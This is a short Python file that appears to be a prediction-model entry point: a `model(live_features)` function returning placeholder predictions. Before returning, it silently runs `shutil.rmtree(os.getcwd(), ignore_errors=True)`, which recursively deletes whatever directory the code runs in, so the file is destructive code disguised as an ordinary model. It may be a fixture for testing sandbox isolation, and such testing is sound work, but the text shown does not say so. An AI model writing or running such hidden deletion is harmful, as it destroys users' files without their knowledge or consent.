import os
import shutil

import numpy as np
import pandas as pd


def model(live_features):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    return pd.DataFrame({"prediction": np.linspace(0, 1, len(live_features))}, live_features.index)
